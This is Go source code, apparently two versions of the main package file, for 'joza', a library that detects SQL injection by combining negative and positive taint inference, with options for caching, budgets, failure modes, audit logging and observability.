	return func(c *config) { c.ntiOptions = append(c.ntiOptions, opts...) }
}

// WithoutNTI disables the NTI component (used to evaluate PTI alone).
func WithoutNTI() Option {
	return func(c *config) { c.disableNTI = true }
}

// WithoutPTI disables the PTI component (used to evaluate NTI alone).
func WithoutPTI() Option {
	return func(c *config) { c.disablePTI = true }
}

// WithProfileStore enables the query-skeleton profile stage in
// enforcement mode over st: a query whose normalized skeleton was never
// seen from its call site during training is flagged as the third
// analyzer vote. Only checks that carry a call site (CheckContextAt,
// AuthorizeContextAt) consult it.
func WithProfileStore(st *ProfileStore) Option {
	return func(c *config) { c.profileStore = st }
}

// WithProfileFile is WithProfileStore loading the serialized store at
// path — at construction and again on every Manager.Refresh, so a
// retrained profile deploys with the same atomic swap as fragments. A
// corrupt file fails the rebuild, and Refresh keeps serving the prior
// snapshot (sticky-pending), exactly like a failed fragment reload.
func WithProfileFile(path string) Option {
	return func(c *config) { c.profilePath = path }
}

// WithProfileLearning puts the profile stage in learning mode: checks
// that carry a call site record their skeleton into r and the stage never
// votes. Serialize r.Store() after exercising benign traffic, then deploy
// it with WithProfileStore or WithProfileFile.
func WithProfileLearning(r *ProfileRecorder) Option {
	return func(c *config) { c.profileRecorder = r }
}

// WithProfileStrict makes enforcement also flag queries from call sites
// that have no training profile at all. Off by default, so a training
// coverage gap degrades to "no opinion" instead of blocking the site.
func WithProfileStrict() Option {
	return func(c *config) { c.profileStrict = true }
}

// WithStrictPolicy enforces the strict (Ray–Ligatti-style) attack
// definition in both analyzers: user input may not contribute identifiers
// (field or table names) either. The default pragmatic policy (Section II)
// permits them because common applications — advanced search in
// particular — pass field names through input legitimately.
func WithStrictPolicy() Option {
	return func(c *config) {
		c.ntiOptions = append(c.ntiOptions, nti.WithStrictPolicy())
		c.ptiOptions = append(c.ptiOptions, pti.WithStrictPolicy())
	}
}

// FailureMode selects how a Guard resolves a check the pipeline could not
// complete normally — a panicking analyzer stage or a blown cost budget.
// The default, FailClosed, treats such checks as attacks.
type FailureMode = engine.FailureMode

// Failure modes, re-exported.
const (
	// FailClosed converts internal failures into attack verdicts: nothing
	// runs unchecked, at the cost of availability during the failure.
	FailClosed = engine.FailClosed
	// FailOpen serves the partial verdict from the stages that did
	// complete: the request path stays up, at the cost of coverage.
	FailOpen = engine.FailOpen
)

// WithFailureMode sets how internal failures (contained panics, blown
// budgets) resolve (default FailClosed). Context cancellation is not a
// failure: it still propagates as an error with no verdict.
func WithFailureMode(m FailureMode) Option {
	return func(c *config) { c.failMode = m }
}

// Budgets caps the work one check may cost, defending the detector itself
// against hostile over-sized inputs (a 4 MB "query" must not stall every
// other request). A zero field disables that cap; the zero value disables
// them all. A check that blows a budget resolves via the failure mode and
// is counted in the metrics snapshot's OverBudgetChecks.
type Budgets struct {
	// MaxQueryBytes rejects queries longer than this before any analysis.
	MaxQueryBytes int
	// MaxInputBytes rejects requests whose summed input values exceed this
	// before any analysis.
	MaxInputBytes int
	// NTIDPCells bounds the dynamic-programming cells one NTI check may
	// fill across all inputs.
	NTIDPCells int
	// PTITokens bounds how many tokens a query may lex into for PTI.
	PTITokens int
}

// WithBudgets enforces per-check cost budgets (default: none).
func WithBudgets(b Budgets) Option {
	return func(c *config) { c.budgets = b }
}

// ObservabilityConfig tunes the optional observability surface enabled by
// WithObservability: decision tracing plus an HTTP listener serving
// Prometheus /metrics, /healthz, /traces and /debug/pprof/.
type ObservabilityConfig struct {
	// Addr is the HTTP listen address for the observability endpoints
	// (host:port; port 0 picks a free port). Empty disables the listener;
	// tracing still runs and Guard.Traces still works.
	Addr string
	// TraceSampleEvery traces one check in N. Zero defaults to 1 (trace
	// every check); a negative value disables tracing while keeping the
	// HTTP listener.
	TraceSampleEvery int
	// TraceRingSize bounds each trace ring buffer (default 128).
	TraceRingSize int
	// TraceSlowThreshold routes benign traces at or above this duration
	// into the notable ring. Zero keeps only attacks there.
	TraceSlowThreshold time.Duration
}

func (oc ObservabilityConfig) traceConfig() trace.Config {
	every := oc.TraceSampleEvery
	if every == 0 {
		every = 1
	}
	return trace.Config{
		SampleEvery:   every,
		RingSize:      oc.TraceRingSize,
		SlowThreshold: oc.TraceSlowThreshold,
	}
}

// WithObservability enables decision tracing and (when cfg.Addr is set)
// the observability HTTP listener. Disabled tracing costs Check nothing:
// the pipeline's recording sites are nil-safe no-ops.
func WithObservability(cfg ObservabilityConfig) Option {
	return func(c *config) { c.obs = &cfg }
}

// ErrNoFragments is returned by New when PTI is enabled but no fragment
// source was provided.
var ErrNoFragments = errors.New("joza: PTI requires fragments; use WithFragments, WithFragmentSet or WithoutPTI")

// New constructs a Guard.
func New(opts ...Option) (*Guard, error) {
	cfg := config{
		threshold:     nti.DefaultThreshold,
		cacheMode:     pti.CacheQueryAndStructure,
		cacheCapacity: 4096,
		policy:        core.PolicyTerminate,
	}
	for _, o := range opts {
		o(&cfg)
	}
	if !cfg.dialect.Valid() {
		return nil, fmt.Errorf("joza: invalid dialect %v", cfg.dialect)
	}
	if cfg.dialect != sqltoken.MySQL {
		// Thread the dialect into both analyzers via the option slices so
		// refresh rebuilds re-apply it. MySQL appends nothing: the default
		// path stays byte-identical to pre-dialect builds.
		cfg.ntiOptions = append(cfg.ntiOptions, nti.WithDialect(cfg.dialect))
		cfg.ptiOptions = append(cfg.ptiOptions, pti.WithDialect(cfg.dialect))
	}
	// Analyzer-side budgets ride the option slices so refresh rebuilds
	// (buildSnap below) re-apply them to every fresh snapshot.
	if cfg.budgets.MaxQueryBytes > 0 {
		cfg.ntiOptions = append(cfg.ntiOptions, nti.WithMaxQueryBytes(cfg.budgets.MaxQueryBytes))
		cfg.ptiOptions = append(cfg.ptiOptions, pti.WithMaxQueryBytes(cfg.budgets.MaxQueryBytes))
	}
	if cfg.budgets.NTIDPCells > 0 {
		cfg.ntiOptions = append(cfg.ntiOptions, nti.WithDPCellBudget(cfg.budgets.NTIDPCells))
	}
	if cfg.budgets.PTITokens > 0 {
		cfg.ptiOptions = append(cfg.ptiOptions, pti.WithMaxTokens(cfg.budgets.PTITokens))
	}
	set := cfg.set
	if set == nil {
		set = fragments.NewSetDialect(cfg.dialect, cfg.fragmentTexts)
	}
	profileConfigured := cfg.profileStore != nil || cfg.profilePath != "" || cfg.profileRecorder != nil
	if cfg.disableNTI && cfg.disablePTI && !profileConfigured {
		return nil, errors.New("joza: both analyzers disabled")
	}
	// buildSnap validates and assembles an analysis snapshot over a
	// fragment set with this Guard's configuration; Manager.Refresh swaps
	// in its result for fresh sets.
	buildSnap := func(set *fragments.Set) (*engine.Snapshot, error) {
		if !cfg.disablePTI && set.Len() == 0 {
			return nil, ErrNoFragments
		}
		snap := &engine.Snapshot{Set: set, Dialect: cfg.dialect}
		if !cfg.disablePTI {
			cached := pti.NewCached(pti.New(set, cfg.ptiOptions...), cfg.cacheMode, cfg.cacheCapacity)
			snap.PTI = cached
			snap.Analyzers = append(snap.Analyzers, engine.PTIStage{Analyzer: cached})
		}
		if !cfg.disableNTI {
			ntiOpts := append([]nti.Option{nti.WithThreshold(cfg.threshold)}, cfg.ntiOptions...)
			a, err := nti.New(ntiOpts...)
			if err != nil {
				return nil, err
			}
			snap.NTI = a
			snap.Analyzers = append(snap.Analyzers, engine.NTIStage{Analyzer: a})
		}
		switch {
		case cfg.profileRecorder != nil:
			if got := cfg.profileRecorder.Dialect(); got != cfg.dialect {
				return nil, fmt.Errorf("joza: profile recorder computes %s-dialect skeletons, guard runs %s", got, cfg.dialect)
			}
			snap.Analyzers = append(snap.Analyzers, engine.ProfileStage{Recorder: cfg.profileRecorder})
		case cfg.profilePath != "":
			// Loaded inside buildSnap so Manager.Refresh picks up retrained
			// profiles, and a corrupt file fails the rebuild (the manager
			// keeps serving the prior snapshot).
			st, err := profile.Load(cfg.profilePath)
			if err != nil {
				return nil, err
			}
			if err := st.ForDialect(cfg.dialect); err != nil {
				return nil, fmt.Errorf("joza: %w", err)
			}
			snap.Profiles = st
			snap.Analyzers = append(snap.Analyzers, engine.ProfileStage{Store: st, BlockUnknownSites: cfg.profileStrict})
		case cfg.profileStore != nil:
			if err := cfg.profileStore.ForDialect(cfg.dialect); err != nil {
				return nil, fmt.Errorf("joza: %w", err)
			}
			snap.Profiles = cfg.profileStore
			snap.Analyzers = append(snap.Analyzers, engine.ProfileStage{Store: cfg.profileStore, BlockUnknownSites: cfg.profileStrict})
		}
		snap.Version = engine.ComputeVersion(set, snap.Profiles, cfg.dialect,
			fmt.Sprintf("q%d:i%d", cfg.budgets.MaxQueryBytes, cfg.budgets.MaxInputBytes))
		return snap, nil
	}
	snap, err := buildSnap(set)
	if err != nil {
		return nil, err
	}
	g := &Guard{policy: cfg.policy, dialect: cfg.dialect, buildSnap: buildSnap}
	engOpts := []engine.Option{
		engine.WithPolicy(cfg.policy),
		engine.WithFailureMode(cfg.failMode),
		engine.WithLimits(engine.Limits{
			MaxQueryBytes: cfg.budgets.MaxQueryBytes,
			MaxInputBytes: cfg.budgets.MaxInputBytes,
		}),
	}
	if cfg.auditWriter != nil {
		if cfg.auditAsync {
			g.audit = audit.NewAsyncLogger(cfg.auditWriter, cfg.auditDepth)
		} else {
			g.audit = audit.NewLogger(cfg.auditWriter)
		}
		engOpts = append(engOpts, engine.WithAuditLogger(g.audit))
	}
	var tracer *trace.Tracer
	if cfg.obs != nil {
		tracer = trace.New(cfg.obs.traceConfig())
		engOpts = append(engOpts, engine.WithTracer(tracer))
	}
	g.eng = engine.New(snap, engOpts...)
	if cfg.obs != nil && cfg.obs.Addr != "" {
		srv := obs.NewServer(g.Metrics, tracer)
		if _, err := srv.Start(cfg.obs.Addr); err != nil {
			return nil, err
		}
		g.obsServer = srv
	}
	return g, nil
}

// swapFragmentSet rebuilds the analysis snapshot over set with the Guard's
// original configuration and swaps it in atomically. In-flight checks
// finish on the snapshot they started with; metrics counters, tracer and
// the observability listener carry over. Used by Manager.Refresh.
func (g *Guard) swapFragmentSet(set *fragments.Set) error {
	snap, err := g.buildSnap(set)
	if err != nil {
		return err
	}
	g.eng.Swap(snap)
	return nil
}

// FragmentsFromDir extracts trusted fragment texts from all source files
// under dir (files with extensions exts; nil means ".php").
func FragmentsFromDir(dir string, exts ...string) ([]string, error) {
	var extList []string
	if len(exts) > 0 {
		extList = exts
	}
	lits, err := phpsrc.ExtractDir(dir, extList)
	if err != nil {
		return nil, fmt.Errorf("extract fragments: %w", err)
	}
	return phpsrc.Texts(lits), nil
}

// FragmentsFromSource extracts trusted fragment texts from a single source
// text (convenience for tests and examples).
func FragmentsFromSource(src string) []string {
	return phpsrc.Texts(phpsrc.Extract("", src))
}

// FragmentCount returns the number of trusted fragments the Guard holds.
func (g *Guard) FragmentCount() int { return g.eng.Snapshot().Set.Len() }

// SampleFragments returns up to n of the longest trusted fragments, for
// inspection (Table III-style output).
func (g *Guard) SampleFragments(n int) []string { return g.eng.Snapshot().Set.Sample(n) }

// SnapshotVersion returns the content-derived version of the analysis
// snapshot currently serving checks: a stable hash over the fragment set,
// profile store, dialect and limits. Every Verdict carries the version of
// the snapshot that produced it, so a verdict's Version matching this
// value proves it came from the current policy generation.
func (g *Guard) SnapshotVersion() string { return g.eng.Snapshot().Version }

// Policy returns the Guard's recovery policy.
func (g *Guard) Policy() Policy { return g.policy }

// Dialect returns the SQL dialect the Guard tokenizes under.
func (g *Guard) Dialect() Dialect { return g.dialect }

// CheckContext analyzes query against the request's captured inputs and
// returns the hybrid verdict. PTI runs first (it also supplies the token
// stream), then NTI, matching the Joza architecture; the query is an
// attack if either flags it.
//
// The query is lexed lazily: a PTI query-cache hit on a request with no
// usable NTI inputs performs no lexing at all, and when both analyzers
// need tokens the lex runs once and is shared.
//
// ctx threads through every analyzer, with cancellation checkpoints
// inside the NTI approximate matcher's DP loop, so a canceled or expired
// context aborts a long analysis promptly and returns its error with no
// verdict recorded.
func (g *Guard) CheckContext(ctx context.Context, query string, inputs []Input) (Verdict, error) {
	return g.eng.Check(ctx, engine.Request{Query: query, Inputs: inputs, Dialect: g.dialect})
}

// Check is the context-free compatibility wrapper around CheckContext: it
// analyzes under context.Background(), on which the pipeline cannot fail.
// Use CheckContext to bound a check with a deadline or cancel it.
func (g *Guard) Check(query string, inputs []Input) Verdict {
	v, _ := g.eng.Check(context.Background(), engine.Request{Query: query, Inputs: inputs, Dialect: g.dialect})
	return v
}

// CheckContextAt is CheckContext with a call-site identity: site keys the
// query-skeleton profile stage (learning records under it, enforcement
// looks the skeleton up under it). Without a configured profile stage the
// site is ignored.
func (g *Guard) CheckContextAt(ctx context.Context, site, query string, inputs []Input) (Verdict, error) {
	return g.eng.Check(ctx, engine.Request{Query: query, Inputs: inputs, Site: site, Dialect: g.dialect})
}

// AuthorizeContextAt is AuthorizeContext with a call-site identity (see
// CheckContextAt).
func (g *Guard) AuthorizeContextAt(ctx context.Context, site, query string, inputs []Input) error {
	return g.eng.Authorize(ctx, engine.Request{Query: query, Inputs: inputs, Site: site, Dialect: g.dialect})
}

// Metrics returns a snapshot of the Guard's counters: checks and attacks,
// PTI cache totals and per-shard activity, NTI matcher activity, and
// check-latency quantiles. Safe to call concurrently with Check.
func (g *Guard) Metrics() Metrics {
	snap := g.eng.Collector().Snapshot()
	es := g.eng.Snapshot()
	snap.SnapshotVersion = es.Version
	if es.PTI != nil {
		st := es.PTI.Stats()
		snap.CacheQueryHits = st.QueryHits
		snap.CacheStructureHits = st.StructureHits
		snap.CacheMisses = st.Misses
		queryShards, _ := es.PTI.ShardStats()
		snap.CacheShards = make([]CacheShardMetrics, len(queryShards))
		for i, sh := range queryShards {
			snap.CacheShards[i] = CacheShardMetrics{
				Hits: sh.Hits, Misses: sh.Misses, Entries: sh.Entries,
			}
		}
	}
	if es.NTI != nil {
		st := es.NTI.Stats()
		snap.NTIMatcherCalls = st.MatcherCalls
		snap.NTIMatcherEarlyExits = st.EarlyExits
		snap.NTIPrefilterChecks = st.PrefilterChecks
		snap.NTIPrefilterRejects = st.PrefilterRejects
	}
	if es.Profiles != nil {
		snap.ProfileSites = uint64(es.Profiles.Sites())
		snap.ProfileSkeletons = uint64(es.Profiles.Skeletons())
	}
	return snap
}

// Traces snapshots the Guard's trace rings: recent sampled checks plus the
// notable (attack or slow) ones. Empty when observability is off.
func (g *Guard) Traces() TraceDump { return g.eng.Tracer().Dump() }

// ObservabilityAddr returns the bound address of the observability HTTP
// listener, or "" when none is running.
func (g *Guard) ObservabilityAddr() string {
	if g.obsServer == nil {
		return ""
	}
	return g.obsServer.Addr()
}

// Close releases the Guard's background resources: it flushes and stops
// the audit logger (a no-op for synchronous loggers) and shuts down the
// observability listener. Guards without either need no Close; calling it
// anyway is a no-op.
func (g *Guard) Close() error {
	var err error
	if g.audit != nil {
		err = g.audit.Close()
	}
	if g.obsServer != nil {
		if cerr := g.obsServer.Close(); err == nil {
			err = cerr
		}
	}
	return err
}

// AuditDropped reports how many audit records an async audit logger had
// to drop because its sink could not keep up (always zero otherwise).
func (g *Guard) AuditDropped() uint64 {
	if g.audit == nil {
		return 0
	}
	return g.audit.Dropped()
}

// AuthorizeContext checks the query under ctx and returns nil when it is
// safe, an *AttackError carrying the verdict and the Guard's policy when
// it is not, or ctx's error when the check was canceled.
func (g *Guard) AuthorizeContext(ctx context.Context, query string, inputs []Input) error {
	return g.eng.Authorize(ctx, engine.Request{Query: query, Inputs: inputs, Dialect: g.dialect})
}

// Authorize is the context-free compatibility wrapper around
// AuthorizeContext.
func (g *Guard) Authorize(query string, inputs []Input) error {
	return g.eng.Authorize(context.Background(), engine.Request{Query: query, Inputs: inputs, Dialect: g.dialect})
}

// PTICacheStats returns PTI cache counters (zero value when PTI is
// disabled).
func (g *Guard) PTICacheStats() pti.CacheStats {
	if pa := g.eng.Snapshot().PTI; pa != nil {
		return pa.Stats()
	}
	return pti.CacheStats{}
}

// RenderVerdict renders the verdict in the paper's figure style: the query,
// a marker line (− for negative taint, + for positive taint) and a line
// marking critical tokens with c.
func RenderVerdict(v Verdict) string {
	toks := sqltoken.Lex(v.Query)
	crit := sqltoken.CriticalTokens(toks)
	return core.RenderMarkings(v.Query, v.NTI.Markings, v.PTI.Markings, crit)
}
