// Package joza is a hybrid taint-inference defense against SQL injection,
// reproducing the system described in "Joza: Hybrid Taint Inference for
// Defeating Web Application SQL Injection Attacks" (DSN 2015).
//
// Joza decides whether a SQL query issued by an application is an injection
// attack by combining two complementary inference techniques:
//
//   - Negative taint inference (NTI) correlates the raw inputs of the
//     current request with the query using approximate string matching.
//     A critical SQL token (keyword, function, operator, delimiter or
//     comment) that derives from an input indicates an attack.
//   - Positive taint inference (PTI) trusts only the string fragments
//     extracted from the application's own source code. A critical token
//     not fully contained in a single trusted fragment indicates an attack.
//
// A query is safe if and only if both analyses deem it safe. Attacks
// crafted to evade NTI (via application-side transformations such as magic
// quotes or whitespace trimming) are caught by PTI, and attacks crafted to
// evade PTI (short payloads rebuilt from the application's own fragment
// vocabulary) are caught by NTI.
//
// # Quick start
//
//	frags, _ := joza.FragmentsFromDir("/var/www/app")
//	guard, _ := joza.New(joza.WithFragments(frags))
//	verdict := guard.Check(query, []joza.Input{
//		{Source: "get", Name: "id", Value: rawID},
//	})
//	if verdict.Attack {
//		// block the query
//	}
//
// Use Guard.Authorize to get policy-aware error behaviour instead of a raw
// verdict.
package joza

import (
	"errors"
	"fmt"
	"io"
	"time"

	"joza/internal/audit"
	"joza/internal/core"
	"joza/internal/fragments"
	"joza/internal/metrics"
	"joza/internal/nti"
	"joza/internal/obs"
	"joza/internal/phpsrc"
	"joza/internal/pti"
	"joza/internal/sqltoken"
	"joza/internal/trace"
)

// Re-exported types so callers need only import package joza.
type (
	// Input is one captured application input (source, name, raw value).
	Input = nti.Input
	// Verdict is the hybrid decision for one query.
	Verdict = core.Verdict
	// Result is the outcome of a single analyzer.
	Result = core.Result
	// Marking is one taint annotation over a query span.
	Marking = core.Marking
	// Reason explains why an analyzer flagged a query.
	Reason = core.Reason
	// Policy selects attack-recovery behaviour.
	Policy = core.Policy
	// AttackError is returned by Authorize when a query is blocked.
	AttackError = core.AttackError
	// CacheMode selects the PTI caching configuration.
	CacheMode = pti.CacheMode
	// Metrics is a point-in-time snapshot of a Guard's counters: checks,
	// attacks per analyzer, PTI cache activity (totals and per shard),
	// NTI matcher activity and check-latency quantiles. The same type is
	// served by the PTI daemon's "stats" verb (with per-op wire counters
	// filled in) and returned by RemoteGuard.Metrics (which also counts
	// checks degraded by a daemon outage).
	Metrics = metrics.Snapshot
	// CacheShardMetrics is the activity of one PTI cache shard.
	CacheShardMetrics = metrics.CacheShard
	// Trace is the recorded evidence of one sampled check: per-stage
	// durations plus the matched inputs, covering fragments and uncovered
	// tokens behind the verdict.
	Trace = trace.Span
	// TraceDump is the queryable view of a Guard's recent and notable
	// traces, as returned by Guard.Traces and served at /traces.
	TraceDump = trace.Dump
)

// Recovery policies and cache modes, re-exported.
const (
	// PolicyTerminate aborts the request on attack (the Joza default).
	PolicyTerminate = core.PolicyTerminate
	// PolicyErrorVirtualize makes the blocked query look like a database
	// error, relying on the application's error handling.
	PolicyErrorVirtualize = core.PolicyErrorVirtualize

	// CacheNone disables PTI caching.
	CacheNone = pti.CacheNone
	// CacheQuery caches PTI verdicts per exact query string.
	CacheQuery = pti.CacheQuery
	// CacheQueryAndStructure also caches per query-structure skeleton.
	CacheQueryAndStructure = pti.CacheQueryAndStructure
)

// Guard is the hybrid detector. It is immutable after construction and safe
// for concurrent use.
type Guard struct {
	ntiAnalyzer *nti.Analyzer
	ptiAnalyzer *pti.Cached
	policy      core.Policy
	set         *fragments.Set
	auditLog    *audit.Logger
	collector   *metrics.Collector
	tracer      *trace.Tracer
	obsServer   *obs.Server
}

type config struct {
	fragmentTexts []string
	set           *fragments.Set
	threshold     float64
	cacheMode     pti.CacheMode
	cacheCapacity int
	policy        core.Policy
	ptiOptions    []pti.Option
	ntiOptions    []nti.Option
	disableNTI    bool
	disablePTI    bool
	auditWriter   io.Writer
	collector     *metrics.Collector
	obs           *ObservabilityConfig
}

// Option configures a Guard.
type Option func(*config)

// WithFragments supplies the trusted fragment texts (string literals
// extracted from the application). Fragments without SQL tokens are
// dropped automatically.
func WithFragments(texts []string) Option {
	return func(c *config) { c.fragmentTexts = append(c.fragmentTexts, texts...) }
}

// WithFragmentSet supplies a prebuilt fragment set, overriding
// WithFragments.
func WithFragmentSet(set *fragments.Set) Option {
	return func(c *config) { c.set = set }
}

// WithNTIThreshold sets the NTI difference-ratio threshold (default 0.20).
func WithNTIThreshold(t float64) Option {
	return func(c *config) { c.threshold = t }
}

// WithCacheMode selects the PTI cache configuration (default
// CacheQueryAndStructure) and capacity (default 4096 entries per cache).
func WithCacheMode(mode CacheMode, capacity int) Option {
	return func(c *config) {
		c.cacheMode = mode
		c.cacheCapacity = capacity
	}
}

// WithPolicy sets the recovery policy used by Authorize.
func WithPolicy(p Policy) Option {
	return func(c *config) { c.policy = p }
}

// WithPTIOptions forwards extra options to the PTI analyzer (ablation
// switches such as the naive matcher).
func WithPTIOptions(opts ...pti.Option) Option {
	return func(c *config) { c.ptiOptions = append(c.ptiOptions, opts...) }
}

// WithNTIOptions forwards extra options to the NTI analyzer.
func WithNTIOptions(opts ...nti.Option) Option {
	return func(c *config) { c.ntiOptions = append(c.ntiOptions, opts...) }
}

// WithoutNTI disables the NTI component (used to evaluate PTI alone).
func WithoutNTI() Option {
	return func(c *config) { c.disableNTI = true }
}

// WithoutPTI disables the PTI component (used to evaluate NTI alone).
func WithoutPTI() Option {
	return func(c *config) { c.disablePTI = true }
}

// WithStrictPolicy enforces the strict (Ray–Ligatti-style) attack
// definition in both analyzers: user input may not contribute identifiers
// (field or table names) either. The default pragmatic policy (Section II)
// permits them because common applications — advanced search in
// particular — pass field names through input legitimately.
func WithStrictPolicy() Option {
	return func(c *config) {
		c.ntiOptions = append(c.ntiOptions, nti.WithStrictPolicy())
		c.ptiOptions = append(c.ptiOptions, pti.WithStrictPolicy())
	}
}

// ObservabilityConfig tunes the optional observability surface enabled by
// WithObservability: decision tracing plus an HTTP listener serving
// Prometheus /metrics, /healthz, /traces and /debug/pprof/.
type ObservabilityConfig struct {
	// Addr is the HTTP listen address for the observability endpoints
	// (host:port; port 0 picks a free port). Empty disables the listener;
	// tracing still runs and Guard.Traces still works.
	Addr string
	// TraceSampleEvery traces one check in N. Zero defaults to 1 (trace
	// every check); a negative value disables tracing while keeping the
	// HTTP listener.
	TraceSampleEvery int
	// TraceRingSize bounds each trace ring buffer (default 128).
	TraceRingSize int
	// TraceSlowThreshold routes benign traces at or above this duration
	// into the notable ring. Zero keeps only attacks there.
	TraceSlowThreshold time.Duration
}

func (oc ObservabilityConfig) traceConfig() trace.Config {
	every := oc.TraceSampleEvery
	if every == 0 {
		every = 1
	}
	return trace.Config{
		SampleEvery:   every,
		RingSize:      oc.TraceRingSize,
		SlowThreshold: oc.TraceSlowThreshold,
	}
}

// WithObservability enables decision tracing and (when cfg.Addr is set)
// the observability HTTP listener. Disabled tracing costs Check nothing:
// the pipeline's recording sites are nil-safe no-ops.
func WithObservability(cfg ObservabilityConfig) Option {
	return func(c *config) { c.obs = &cfg }
}

// ErrNoFragments is returned by New when PTI is enabled but no fragment
// source was provided.
var ErrNoFragments = errors.New("joza: PTI requires fragments; use WithFragments, WithFragmentSet or WithoutPTI")

// New constructs a Guard.
func New(opts ...Option) (*Guard, error) {
	cfg := config{
		threshold:     nti.DefaultThreshold,
		cacheMode:     pti.CacheQueryAndStructure,
		cacheCapacity: 4096,
		policy:        core.PolicyTerminate,
	}
	for _, o := range opts {
		o(&cfg)
	}
	set := cfg.set
	if set == nil {
		set = fragments.NewSet(cfg.fragmentTexts)
	}
	if !cfg.disablePTI && set.Len() == 0 {
		return nil, ErrNoFragments
	}
	g := &Guard{policy: cfg.policy, set: set}
	if !cfg.disableNTI {
		ntiOpts := append([]nti.Option{nti.WithThreshold(cfg.threshold)}, cfg.ntiOptions...)
		g.ntiAnalyzer = nti.New(ntiOpts...)
	}
	if !cfg.disablePTI {
		g.ptiAnalyzer = pti.NewCached(pti.New(set, cfg.ptiOptions...), cfg.cacheMode, cfg.cacheCapacity)
	}
	if g.ntiAnalyzer == nil && g.ptiAnalyzer == nil {
		return nil, errors.New("joza: both analyzers disabled")
	}
	if cfg.auditWriter != nil {
		g.auditLog = audit.NewLogger(cfg.auditWriter)
	}
	g.collector = cfg.collector
	if g.collector == nil {
		g.collector = metrics.NewCollector()
	}
	if cfg.obs != nil {
		g.tracer = trace.New(cfg.obs.traceConfig())
		if cfg.obs.Addr != "" {
			srv := obs.NewServer(g.Metrics, g.tracer)
			if _, err := srv.Start(cfg.obs.Addr); err != nil {
				return nil, err
			}
			g.obsServer = srv
		}
	}
	return g, nil
}

// withCollector shares a metrics collector across Guards; the Manager
// uses it so counters survive fragment-set rebuilds.
func withCollector(c *metrics.Collector) Option {
	return func(cfg *config) { cfg.collector = c }
}

// FragmentsFromDir extracts trusted fragment texts from all source files
// under dir (files with extensions exts; nil means ".php").
func FragmentsFromDir(dir string, exts ...string) ([]string, error) {
	var extList []string
	if len(exts) > 0 {
		extList = exts
	}
	lits, err := phpsrc.ExtractDir(dir, extList)
	if err != nil {
		return nil, fmt.Errorf("extract fragments: %w", err)
	}
	return phpsrc.Texts(lits), nil
}

// FragmentsFromSource extracts trusted fragment texts from a single source
// text (convenience for tests and examples).
func FragmentsFromSource(src string) []string {
	return phpsrc.Texts(phpsrc.Extract("", src))
}

// FragmentCount returns the number of trusted fragments the Guard holds.
func (g *Guard) FragmentCount() int { return g.set.Len() }

// SampleFragments returns up to n of the longest trusted fragments, for
// inspection (Table III-style output).
func (g *Guard) SampleFragments(n int) []string { return g.set.Sample(n) }

// Policy returns the Guard's recovery policy.
func (g *Guard) Policy() Policy { return g.policy }

// Check analyzes query against the request's captured inputs and returns
// the hybrid verdict. PTI runs first (it also supplies the token stream),
// then NTI, matching the Joza architecture; the query is an attack if
// either flags it.
//
// The query is lexed lazily: a PTI query-cache hit on a request with no
// usable NTI inputs performs no lexing at all, and when both analyzers
// need tokens the lex runs once and is shared.
func (g *Guard) Check(query string, inputs []Input) Verdict {
	span := g.tracer.Start(query)
	var start time.Time
	sampled := g.collector.SampleLatency()
	if sampled {
		start = time.Now()
	}
	v := Verdict{Query: query}
	var toks []sqltoken.Token
	if g.ptiAnalyzer != nil {
		v.PTI, toks = g.ptiAnalyzer.AnalyzeLazyTraced(query, nil, span)
	} else {
		v.PTI = core.Result{Analyzer: core.AnalyzerPTI}
	}
	if g.ntiAnalyzer != nil && hasInputValues(inputs) {
		// toks is non-nil iff PTI already lexed (cache miss); otherwise
		// NTI lexes on demand, only when an input actually matches.
		v.NTI = g.ntiAnalyzer.AnalyzeTraced(query, toks, inputs, span)
	} else {
		v.NTI = core.Result{Analyzer: core.AnalyzerNTI}
	}
	v.Attack = v.NTI.Attack || v.PTI.Attack
	elapsed := time.Duration(-1)
	if sampled {
		elapsed = time.Since(start)
	}
	g.collector.RecordCheck(v.NTI.Attack, v.PTI.Attack, elapsed)
	if span != nil {
		span.SetVerdict(v.NTI.Attack, v.PTI.Attack)
		g.tracer.Finish(span)
		// Stage histograms are fed only from traced checks so the
		// untraced hot path never reads the clock per stage.
		g.collector.ObserveStageDurations(span.LexNs, span.PTICoverNs, span.NTIMatchNs)
	}
	if v.Attack && g.auditLog != nil {
		g.auditLog.Log(v, g.policy, inputs)
	}
	return v
}

// hasInputValues reports whether any captured input carries a non-empty
// value (empty values can never produce an NTI marking).
func hasInputValues(inputs []Input) bool {
	for _, in := range inputs {
		if in.Value != "" {
			return true
		}
	}
	return false
}

// Metrics returns a snapshot of the Guard's counters: checks and attacks,
// PTI cache totals and per-shard activity, NTI matcher activity, and
// check-latency quantiles. Safe to call concurrently with Check.
func (g *Guard) Metrics() Metrics {
	snap := g.collector.Snapshot()
	if g.ptiAnalyzer != nil {
		st := g.ptiAnalyzer.Stats()
		snap.CacheQueryHits = st.QueryHits
		snap.CacheStructureHits = st.StructureHits
		snap.CacheMisses = st.Misses
		queryShards, _ := g.ptiAnalyzer.ShardStats()
		snap.CacheShards = make([]CacheShardMetrics, len(queryShards))
		for i, sh := range queryShards {
			snap.CacheShards[i] = CacheShardMetrics{
				Hits: sh.Hits, Misses: sh.Misses, Entries: sh.Entries,
			}
		}
	}
	if g.ntiAnalyzer != nil {
		st := g.ntiAnalyzer.Stats()
		snap.NTIMatcherCalls = st.MatcherCalls
		snap.NTIMatcherEarlyExits = st.EarlyExits
	}
	return snap
}

// Traces snapshots the Guard's trace rings: recent sampled checks plus the
// notable (attack or slow) ones. Empty when observability is off.
func (g *Guard) Traces() TraceDump { return g.tracer.Dump() }

// ObservabilityAddr returns the bound address of the observability HTTP
// listener, or "" when none is running.
func (g *Guard) ObservabilityAddr() string {
	if g.obsServer == nil {
		return ""
	}
	return g.obsServer.Addr()
}

// Close releases the Guard's background resources (currently only the
// observability listener). Guards without one need no Close; calling it
// anyway is a no-op.
func (g *Guard) Close() error {
	if g.obsServer == nil {
		return nil
	}
	return g.obsServer.Close()
}

// Authorize checks the query and returns nil when it is safe, or an
// *AttackError carrying the verdict and the Guard's policy when it is not.
func (g *Guard) Authorize(query string, inputs []Input) error {
	v := g.Check(query, inputs)
	if !v.Attack {
		return nil
	}
	return &core.AttackError{Verdict: v, Policy: g.policy}
}

// PTICacheStats returns PTI cache counters (zero value when PTI is
// disabled).
func (g *Guard) PTICacheStats() pti.CacheStats {
	if g.ptiAnalyzer == nil {
		return pti.CacheStats{}
	}
	return g.ptiAnalyzer.Stats()
}

// RenderVerdict renders the verdict in the paper's figure style: the query,
// a marker line (− for negative taint, + for positive taint) and a line
// marking critical tokens with c.
